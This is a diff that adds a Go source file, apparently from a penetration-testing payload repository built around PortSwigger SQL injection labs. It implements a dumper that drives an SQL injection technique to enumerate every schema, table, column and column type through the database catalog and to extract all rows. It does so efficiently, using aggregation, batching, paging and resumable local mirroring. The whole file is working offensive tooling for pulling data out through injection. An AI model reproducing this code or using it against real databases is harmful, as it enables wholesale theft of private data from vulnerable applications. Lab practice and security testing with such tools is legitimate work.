@@ -0,0 +1,430 @@
+package sqli
+
+import (
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strconv"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+)
+
+// DumpOptions restricts what a Dumper retrieves. Empty filters match everything.
+type DumpOptions struct {
+	Schemas       []string
+	Tables        []string
+	Columns       []string
+	RowLimit      int       // Maximum rows retrieved per table, 0 for no limit
+	IncludeSystem bool      // Also dump the database's built-in schemas
+	Aggregate     bool      // Retrieve lists in a single request with string_agg, group_concat or listagg
+	Mirror        RowMirror // Local copy that each table is saved to and resumed from, nil for none
+}
+
+// RowMirror keeps a local copy of dumped tables. Rows it already holds are not retrieved again.
+type RowMirror interface {
+	// Rows returns the rows stored for the table, or none when its columns have changed.
+	Rows(schema string, table string, columns []string) ([][]string, error)
+	// Save stores the table, replacing what was stored for it before.
+	Save(schema string, table TableDump) error
+}
+
+// DumpResult is the structured output of a database dump.
+type DumpResult struct {
+	Target      string       `json:"target"`
+	Database    string       `json:"database"`
+	Technique   string       `json:"technique"`
+	Environment *Environment `json:"environment,omitempty"` // Set when the environment was enumerated
+	Schemas     []SchemaDump `json:"schemas"`
+}
+
+type SchemaDump struct {
+	Name   string      `json:"name"`
+	Tables []TableDump `json:"tables"`
+}
+
+type TableDump struct {
+	Name        string     `json:"name"`
+	Columns     []string   `json:"columns"`
+	ColumnTypes []string   `json:"column_types,omitempty"` // Data type of each column, as named in the catalog
+	RowCount    int        `json:"row_count"`
+	Rows        [][]string `json:"rows"` // NULL values are NULL_VALUE, written as JSON nulls
+}
+
+// MarshalJSON writes the NULL_VALUE markers of the rows as nulls.
+func (t TableDump) MarshalJSON() ([]byte, error) {
+	type plain TableDump
+	rows := make([][]*string, len(t.Rows))
+	for i, row := range t.Rows {
+		rows[i] = make([]*string, len(row))
+		for j := range row {
+			if row[j] != constant.NULL_VALUE {
+				rows[i][j] = &row[j]
+			}
+		}
+	}
+	return json.Marshal(struct {
+		plain
+		Rows [][]*string `json:"rows"`
+	}{plain(t), rows})
+}
+
+// UnmarshalJSON reads the nulls of the rows back as NULL_VALUE markers.
+func (t *TableDump) UnmarshalJSON(data []byte) error {
+	type plain TableDump
+	decoded := struct {
+		*plain
+		Rows [][]*string `json:"rows"`
+	}{plain: (*plain)(t)}
+	if err := json.Unmarshal(data, &decoded); err != nil {
+		return err
+	}
+
+	t.Rows = make([][]string, len(decoded.Rows))
+	for i, row := range decoded.Rows {
+		t.Rows[i] = make([]string, len(row))
+		for j, value := range row {
+			t.Rows[i][j] = constant.NULL_VALUE
+			if value != nil {
+				t.Rows[i][j] = *value
+			}
+		}
+	}
+	return nil
+}
+
+// Dumper enumerates schemas, tables and columns through the catalog and retrieves every row.
+type Dumper struct {
+	technique Technique
+	db        constant.Database
+	options   DumpOptions
+}
+
+// NewDumper returns a dumper that runs its queries through the given technique.
+func NewDumper(technique Technique, db constant.Database, options DumpOptions) *Dumper {
+	return &Dumper{
+		technique: technique,
+		db:        db,
+		options:   options,
+	}
+}
+
+// Dump retrieves every schema, table and row that matches the options.
+// Tables that fail are logged and skipped so one error does not lose the whole dump.
+func (d *Dumper) Dump() (DumpResult, error) {
+	result := DumpResult{Database: d.db.Name, Technique: d.technique.Name()}
+
+	schemas, err := d.ListSchemas()
+	if err != nil {
+		return result, fmt.Errorf("failed to list schemas: %w", err)
+	}
+	logger.Successf("Schemas: %s", strings.Join(schemas, ", "))
+
+	for _, schema := range schemas {
+		schemaDump := SchemaDump{Name: schema}
+		tables, err := d.ListTables(schema)
+		if err != nil {
+			logger.Warningf("Failed to list tables of %s: %s", schema, err.Error())
+			continue
+		}
+		logger.Successf("Tables in %s: %s", schema, strings.Join(tables, ", "))
+
+		for _, table := range tables {
+			tableDump, err := d.DumpTable(schema, table)
+			if err != nil {
+				logger.Warningf("Failed to dump %s.%s: %s", schema, table, err.Error())
+			}
+			schemaDump.Tables = append(schemaDump.Tables, tableDump)
+		}
+		result.Schemas = append(result.Schemas, schemaDump)
+	}
+	return result, nil
+}
+
+// ListSchemas returns the schemas that own at least one table.
+func (d *Dumper) ListSchemas() ([]string, error) {
+	view, _ := d.db.TablesQuery("")
+	where := ""
+	if !d.options.IncludeSystem {
+		where = d.db.SystemSchemaCondition()
+	}
+	schemas, err := d.fetchList("DISTINCT "+d.db.Catalog.SchemaColumn, view, where, 0)
+	if err != nil {
+		return nil, err
+	}
+	return filterNames(schemas, d.options.Schemas), nil
+}
+
+// ListTables returns the tables of a schema.
+func (d *Dumper) ListTables(schema string) ([]string, error) {
+	view, where := d.db.TablesQuery(schema)
+	tables, err := d.fetchList(d.db.Catalog.TableColumn, view, where, 0)
+	if err != nil {
+		return nil, err
+	}
+	return filterNames(tables, d.options.Tables), nil
+}
+
+// ListColumns returns the columns of a table.
+func (d *Dumper) ListColumns(schema string, table string) ([]string, error) {
+	view, where := d.db.ColumnsQuery(schema, table)
+	columns, err := d.fetchList(d.db.Catalog.ColumnColumn, view, where, 0)
+	if err != nil {
+		return nil, err
+	}
+	return filterNames(columns, d.options.Columns), nil
+}
+
+// ListColumnTypes returns the data type of each column of a table, keyed by column name.
+func (d *Dumper) ListColumnTypes(schema string, table string) (map[string]string, error) {
+	view, where := d.db.ColumnsQuery(schema, table)
+	rows, err := d.SelectRows([]string{d.db.Catalog.ColumnColumn, d.db.Catalog.TypeColumn}, view, where, 0)
+	if err != nil {
+		return nil, err
+	}
+	types := make(map[string]string, len(rows))
+	for _, row := range rows {
+		if len(row) == 2 {
+			types[row[0]] = row[1]
+		}
+	}
+	return types, nil
+}
+
+// DumpTable lists the columns of a table and retrieves its rows. With a mirror the table is
+// saved once retrieved, or as far as it got, and rows the mirror already holds are skipped.
+func (d *Dumper) DumpTable(schema string, table string) (TableDump, error) {
+	tableDump := TableDump{Name: table}
+
+	columns, err := d.ListColumns(schema, table)
+	if err != nil {
+		return tableDump, fmt.Errorf("failed to list columns: %w", err)
+	}
+	if len(columns) == 0 {
+		return tableDump, nil
+	}
+	tableDump.Columns = columns
+	logger.Successf("Columns in %s.%s: %s", schema, table, strings.Join(columns, ", "))
+
+	var known [][]string
+	mirror := d.options.Mirror
+	if mirror != nil {
+		types, err := d.ListColumnTypes(schema, table)
+		if err != nil {
+			logger.Warningf("Failed to list column types of %s.%s: %s", schema, table, err.Error())
+		}
+		for _, column := range columns {
+			tableDump.ColumnTypes = append(tableDump.ColumnTypes, types[column])
+		}
+
+		if known, err = mirror.Rows(schema, table, columns); err != nil {
+			logger.Warningf("Failed to read mirrored rows of %s.%s, retrieving them again: %s", schema, table, err.Error())
+			known = nil
+		}
+		if len(known) > 0 {
+			logger.Infof("%d rows of %s.%s are already mirrored, skipping them", len(known), schema, table)
+		}
+	}
+
+	rows, err := d.selectRows(columns, schema+"."+table, "", "", known, d.options.RowLimit)
+	tableDump.Rows = append(known, rows...)
+	tableDump.RowCount = len(tableDump.Rows)
+	if mirror != nil {
+		if err := mirror.Save(schema, tableDump); err != nil {
+			logger.Warningf("Failed to mirror %s.%s: %s", schema, table, err.Error())
+		}
+	}
+	if err != nil {
+		return tableDump, fmt.Errorf("failed to retrieve rows: %w", err)
+	}
+	logger.Successf("Retrieved %d rows from %s.%s", tableDump.RowCount, schema, table)
+	return tableDump, nil
+}
+
+// DumpRows retrieves the given columns of every row of a table.
+func (d *Dumper) DumpRows(schema string, table string, columns []string) ([][]string, error) {
+	return d.SelectRows(columns, schema+"."+table, "", d.options.RowLimit)
+}
+
+// SelectRows retrieves the expressions from every matching row of a table, up to limit
+// rows when limit > 0. Each row is fetched as one string with its values joined by COLUMN_SEPARATOR.
+func (d *Dumper) SelectRows(expressions []string, table string, where string, limit int) ([][]string, error) {
+	return d.selectRows(expressions, table, where, "", nil, limit)
+}
+
+// SelectOrderedRows is SelectRows with the rows in the order of orderBy, an ORDER BY list
+// of the table's columns. Rows are paged, as lists and aggregates do not keep an order
+// in every dialect.
+func (d *Dumper) SelectOrderedRows(expressions []string, table string, where string, orderBy string, limit int) ([][]string, error) {
+	return d.selectRows(expressions, table, where, orderBy, nil, limit)
+}
+
+// selectRows is SelectOrderedRows leaving out the rows already known.
+func (d *Dumper) selectRows(expressions []string, table string, where string, orderBy string, known [][]string, limit int) ([][]string, error) {
+	parts := make([]string, 0, 2*len(expressions)-1)
+	for i, expression := range expressions {
+		if i > 0 {
+			parts = append(parts, d.db.Quote(constant.COLUMN_SEPARATOR))
+		}
+		parts = append(parts, fmt.Sprintf("COALESCE(%s,%s)", d.db.CastToString(expression), d.db.Quote(constant.NULL_VALUE)))
+	}
+
+	knownValues := make([]string, len(known))
+	for i, row := range known {
+		knownValues[i] = strings.Join(row, constant.COLUMN_SEPARATOR)
+	}
+
+	values, err := d.fetchRange(d.db.Concat(parts...), table, where, orderBy, knownValues, limit)
+	rows := make([][]string, len(values))
+	for i, value := range values {
+		rows[i] = strings.Split(value, constant.COLUMN_SEPARATOR)
+	}
+	return rows, err
+}
+
+// fetchList retrieves the value of an expression for every matching row, up to limit rows when limit > 0.
+func (d *Dumper) fetchList(expression string, table string, where string, limit int) ([]string, error) {
+	return d.fetchRange(expression, table, where, "", nil, limit)
+}
+
+// fetchRange retrieves the value of an expression for the matching rows, up to row limit when
+// limit > 0, leaving out the values already known. Without an ORDER BY list, it lists or aggregates
+// the rows in a single request when possible and sorts them, and falls back to paging, retrieving
+// as many rows per request as the technique allows.
+//
+// Paging resumes after the known values when the last of them is the row the database puts
+// before the first one to retrieve. Otherwise, e.g. when they were sorted byte by byte and the
+// database collation ignores case, every row is paged again and the known ones are left out.
+func (d *Dumper) fetchRange(expression string, table string, where string, orderBy string, known []string, limit int) ([]string, error) {
+	query := payload.NewSelect(d.db, expression).From(table).Where(where).OrderBy(orderBy)
+	countValue, err := d.technique.ExtractString(query.Count().Subquery())
+	if err != nil {
+		return nil, fmt.Errorf("failed to count rows: %w", err)
+	}
+	count, err := strconv.Atoi(strings.TrimSpace(countValue))
+	if err != nil {
+		return nil, fmt.Errorf("unexpected row count %q: %w", countValue, err)
+	}
+	logger.Debugf("%d rows of %s in %s", count, expression, table)
+	total := count
+	if limit > 0 && count > limit {
+		count = limit
+	}
+	if count <= len(known) {
+		return nil, nil
+	}
+
+	// A technique that renders every row at once needs a single request, as long as no row went missing
+	if list, isList := d.technique.(ListTechnique); isList && orderBy == "" {
+		values, err := list.ExtractList(expression, table, where)
+		if err == nil && len(values) == total {
+			slices.Sort(values)
+			values = withoutValues(values, known)
+			return values[:min(len(values), count-len(known))], nil
+		}
+		if err != nil {
+			logger.Warningf("Listing rows in one request failed, falling back: %s", err.Error())
+		} else {
+			logger.Warningf("Listed %d of %d rows in one request, falling back", len(values), total)
+		}
+	}
+
+	if d.options.Aggregate && limit == 0 && orderBy == "" && d.db.Supports(constant.CAPABILITY_AGGREGATION) {
+		aggregated, err := d.technique.ExtractString(query.Aggregate(constant.ROW_SEPARATOR).Subquery())
+		if err == nil {
+			values := strings.Split(aggregated, constant.ROW_SEPARATOR)
+			if len(values) == count {
+				slices.Sort(values)
+				return withoutValues(values, known), nil
+			}
+			logger.Warningf("Aggregated %d of %d rows, falling back to paging", len(values), count)
+		} else {
+			logger.Warningf("Aggregation failed, falling back to paging: %s", err.Error())
+		}
+	}
+
+	skip := len(known)
+	if skip > 0 {
+		last, err := d.technique.ExtractString(query.Row(skip - 1).Subquery())
+		if err != nil {
+			return nil, fmt.Errorf("failed to retrieve row %d: %w", skip-1, err)
+		}
+		if last != known[skip-1] {
+			logger.Warningf("The %d known rows are not the first ones in the database's order, paging through every row again", skip)
+			skip = 0
+		}
+	}
+	values, err := d.page(query, skip, count)
+	if skip < len(known) {
+		values = withoutValues(values, known)
+		values = values[:min(len(values), count-len(known))]
+	}
+	return values, err
+}
+
+// page retrieves rows from to count of the query, as many per request as the technique allows.
+// On error it returns the rows retrieved before it.
+func (d *Dumper) page(query payload.Select, from int, count int) ([]string, error) {
+	batchSize := 1
+	batch, isBatch := d.technique.(BatchTechnique)
+	if isBatch {
+		batchSize = batch.BatchSize()
+	}
+
+	values := make([]string, 0, count-from)
+	for offset := from; offset < count; offset += batchSize {
+		if !isBatch {
+			value, err := d.technique.ExtractString(query.Row(offset).Subquery())
+			if err != nil {
+				return values, fmt.Errorf("failed to retrieve row %d: %w", offset, err)
+			}
+			values = append(values, value)
+			continue
+		}
+
+		expressions := make([]string, 0, batchSize)
+		for row := offset; row < min(offset+batchSize, count); row++ {
+			expressions = append(expressions, query.Row(row).Subquery())
+		}
+		batchValues, err := batch.ExtractStrings(expressions)
+		if err != nil {
+			return values, fmt.Errorf("failed to retrieve rows %d-%d: %w", offset, offset+len(expressions)-1, err)
+		}
+		values = append(values, batchValues...)
+	}
+	return values, nil
+}
+
+// withoutValues returns the values that are not among the known ones, in their order. A value
+// known once is left out once, so duplicate rows are kept as often as they are missing.
+func withoutValues(values []string, known []string) []string {
+	missing := map[string]int{}
+	for _, value := range known {
+		missing[value]++
+	}
+	kept := make([]string, 0, len(values))
+	for _, value := range values {
+		if missing[value] > 0 {
+			missing[value]--
+			continue
+		}
+		kept = append(kept, value)
+	}
+	return kept
+}
+
+// filterNames keeps the names listed in filter, matched case-insensitively. An empty filter keeps every name.
+func filterNames(names []string, filter []string) []string {
+	if len(filter) == 0 {
+		return names
+	}
+	kept := make([]string, 0, len(names))
+	for _, name := range names {
+		if slices.ContainsFunc(filter, func(wanted string) bool { return strings.EqualFold(wanted, name) }) {
+			kept = append(kept, name)
+		}
+	}
+	return kept
+}